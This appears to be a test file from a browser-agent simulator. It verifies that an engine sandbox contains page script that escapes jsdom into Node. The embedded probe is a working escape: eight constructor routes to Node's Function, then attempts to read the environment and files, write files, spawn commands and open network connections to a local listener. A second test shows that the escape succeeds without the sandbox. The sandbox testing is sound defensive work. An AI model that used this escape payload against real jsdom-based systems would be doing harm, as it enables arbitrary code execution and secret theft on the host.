@@ -1,0 +1,174 @@
+/**
+ * Page code that escapes jsdom into Node gains nothing in the engine sandbox: the probes
+ * of the issue (eight ways from a page function to Node's Function, then a file write, a
+ * file read, a command, the environment, a socket, and the page's own XHR, fetch and
+ * WebSocket) all fail, and the episode still scores.
+ */
+import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Agent } from '../../simulator/agent.ts';
+import type { LoadedBundle } from '../../simulator/bundle.ts';
+import { DecoyEnv } from '../../simulator/env.ts';
+import { defenses } from '../../simulator/registries.ts';
+import { runEpisode, type EpisodeRecord } from '../../simulator/runner.ts';
+import { bundleFor, pathAgent } from '../helpers.ts';
+
+/** Ways from a page object to a Function constructor (page realm or Node's). */
+const ROUTES = [
+  'this.constructor.constructor',
+  'setTimeout.constructor',
+  'scrollTo.constructor',
+  'document.createElement.constructor',
+  'setInterval.constructor',
+  'requestAnimationFrame.constructor',
+  'localStorage.getItem.constructor',
+  'Object.getPrototypeOf(document.body).constructor.constructor',
+];
+
+/** The page script: every route, every attempt; what it learns goes into a visible box of the page. */
+function probe(dir: string, port: number): string {
+  const paths = { write: join(dir, 'written'), command: join(dir, 'command-ran'), secret: join(dir, 'secret') };
+  return `<script>(function () {
+  var WRITE = ${JSON.stringify(paths.write)}, SECRET = ${JSON.stringify(paths.secret)}, COMMAND = ${JSON.stringify(paths.command)}, PORT = ${port};
+  var seen = [];
+  function show(s) {
+    seen.push(String(s).slice(0, 200));
+    var box = document.getElementById('probe-out');
+    if (box) box.textContent = 'probe ' + seen.join(' | ');
+  }
+  var routes = [${ROUTES.map((r) => `function () { return ${r}; }`).join(', ')}];
+  routes.forEach(function (route, i) {
+    try {
+      var F = route();
+      var proc = F('return process')();
+      if (!proc || !proc.versions) { show('route ' + i + ': no process'); return; }
+      show('route ' + i + ': process');
+      try { show('env ' + JSON.stringify(proc.env)); } catch (e) { show('env denied'); }
+      try { proc.kill(proc.pid, 0); show('kill ran'); } catch (e) { show('kill denied'); }
+      // Node's own ways in: the CommonJS loader, the internal bindings, import().
+      var req = proc.mainModule && proc.mainModule.require;
+      var binding = function (name) { try { return proc.binding(name); } catch (e) { show('binding ' + name + ' denied'); return null; } };
+      var fsb = binding('fs');
+      try { if (req) req('fs').writeFileSync(WRITE, 'x'); else if (fsb) fsb.writeFileUtf8(WRITE, 'x', 577, 438); else throw 0; show('write ran'); } catch (e) { show('write denied'); }
+      try { show('read ' + (req ? req('fs').readFileSync(SECRET, 'utf8') : fsb.readFileUtf8(SECRET, 0))); } catch (e) { show('read denied'); }
+      try {
+        var sp = binding('spawn_sync');
+        if (!sp) throw 0;
+        sp.spawn({ file: 'touch', args: ['touch', COMMAND], envPairs: ['PATH=/usr/bin:/bin'], stdio: [{ type: 'pipe', readable: true, writable: false }, { type: 'pipe', readable: false, writable: true }, { type: 'pipe', readable: false, writable: true }] });
+        show('command ran');
+      } catch (e) { show('command denied'); }
+      ['node:fs', 'node:child_process', 'node:net', 'node:http'].forEach(function (name) {
+        try {
+          F('return import("' + name + '")')().then(function (m) {
+            try {
+              if (name === 'node:fs') { m.writeFileSync(WRITE, 'x'); show('write ran'); }
+              if (name === 'node:child_process') { m.execSync('touch ' + COMMAND); show('command ran'); }
+              if (name === 'node:net') { m.connect(PORT, '127.0.0.1').on('error', function () {}); show('socket opened'); }
+              if (name === 'node:http') { m.get('http://127.0.0.1:' + PORT + '/').on('error', function () {}); show('http opened'); }
+            } catch (e) { show(name + ' denied'); }
+          }, function () { show('import ' + name + ' denied'); });
+        } catch (e) { show('import ' + name + ' denied'); }
+      });
+    } catch (e) { show('route ' + i + ' failed'); }
+  });
+  try { var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/hostname', false); x.send(); show('xhr file ' + x.responseText); } catch (e) { show('xhr denied'); }
+  try { var y = new XMLHttpRequest(); y.open('GET', 'http://127.0.0.1:${port}/', true); y.send(); show('xhr sent'); } catch (e) { show('xhr denied'); }
+  try { new WebSocket('ws://127.0.0.1:${port}/'); show('websocket opened'); } catch (e) { show('websocket denied'); }
+  try { fetch('http://127.0.0.1:${port}/').catch(function () {}); show('fetch sent'); } catch (e) { show('fetch denied'); }
+  try { navigator.sendBeacon('http://127.0.0.1:${port}/', 'x'); show('beacon sent'); } catch (e) { show('beacon denied'); }
+})();</script>`;
+}
+
+/** A generated bundle with the probe added to every page (the box it reports into is authored, so it is observed). */
+function crafted(dir: string, port: number): LoadedBundle {
+  const b = bundleFor({ task: 'purchase', domain: 'shopping', patterns: [] }, 7);
+  const files: Record<string, string> = {};
+  for (const [path, text] of Object.entries(b.site.files)) {
+    files[path] = path.endsWith('.html')
+      ? text.replace('</body>', `<div id="probe-out" style="position:absolute;left:0;top:0;width:600px;height:20px">probe</div>${probe(dir, port)}</body>`)
+      : text;
+  }
+  return { manifest: b.manifest, site: { files } };
+}
+
+/** The oracle, keeping what it saw. */
+function watching(bundle: LoadedBundle, seen: string[]): Agent {
+  const oracle = pathAgent(bundle, 'safePath');
+  return {
+    act(obs, history) {
+      seen.push(JSON.stringify(obs.elements));
+      return oracle.act(obs, history);
+    },
+  };
+}
+
+/** What the probe reported in the last observation (its box's text). */
+function report(seen: string[]): string {
+  const last = seen[seen.length - 1] ?? '';
+  const text = (JSON.parse(last) as { text?: string }[]).find((e) => e.text?.startsWith('probe'))?.text ?? '';
+  return text;
+}
+
+async function episode(env: DecoyEnv, bundle: LoadedBundle, seen: string[]): Promise<EpisodeRecord> {
+  return runEpisode({ env, bundle, seed: 1, agent: watching(bundle, seen), agentId: 'oracle', defense: defenses.get('none').create({ seed: 1, options: {} }), defenseId: 'none' });
+}
+
+describe('the engine sandbox', () => {
+  let dir = '';
+  let server: Server;
+  let port = 0;
+  let connections = 0;
+  const SECRET = `secret-${process.pid}-${Date.now()}`;
+
+  beforeAll(async () => {
+    dir = mkdtempSync(join(tmpdir(), 'decoy-sandbox-'));
+    writeFileSync(join(dir, 'secret'), SECRET);
+    process.env.DECOY_PROBE_SECRET = SECRET;
+    server = createServer((s) => {
+      connections++;
+      s.destroy();
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    port = (server.address() as { port: number }).port;
+  });
+
+  afterAll(async () => {
+    delete process.env.DECOY_PROBE_SECRET;
+    await new Promise((r) => server.close(r));
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('every escape route fails to write, read, run a command, see the environment or reach a listener, and the episode still scores', async () => {
+    const bundle = crafted(dir, port);
+    const seen: string[] = [];
+    const env = DecoyEnv.sandboxed();
+    const record = await episode(env, bundle, seen);
+    // Let anything the page started in the engine process settle before looking.
+    await env.close();
+    await new Promise((r) => setTimeout(r, 300));
+    const saw = report(seen);
+    expect(saw).toMatch(/route \d: process/); // the probe did escape into Node: what follows is the sandbox's doing
+    expect(saw).toMatch(/write denied.*read denied.*command denied/);
+    expect(saw).not.toMatch(/(write|command|kill) ran|socket opened|http opened|xhr file|xhr sent|websocket opened|fetch sent|beacon sent/);
+    expect(saw).not.toContain(SECRET);
+    expect(existsSync(join(dir, 'written'))).toBe(false);
+    expect(existsSync(join(dir, 'command-ran'))).toBe(false);
+    expect(connections).toBe(0);
+    expect(record.end.kind).toBe('answer');
+    expect([record.T, record.D]).toEqual([1, 0]);
+  });
+
+  it('the same page run in-process does write the file (the probe is a real escape)', async () => {
+    const bundle = crafted(dir, port);
+    const env = new DecoyEnv();
+    const seen: string[] = [];
+    await episode(env, bundle, seen);
+    await env.close();
+    expect(report(seen)).toMatch(/write ran.*command ran/);
+    expect(existsSync(join(dir, 'written'))).toBe(true);
+    expect(existsSync(join(dir, 'command-ran'))).toBe(true);
+  });
+});
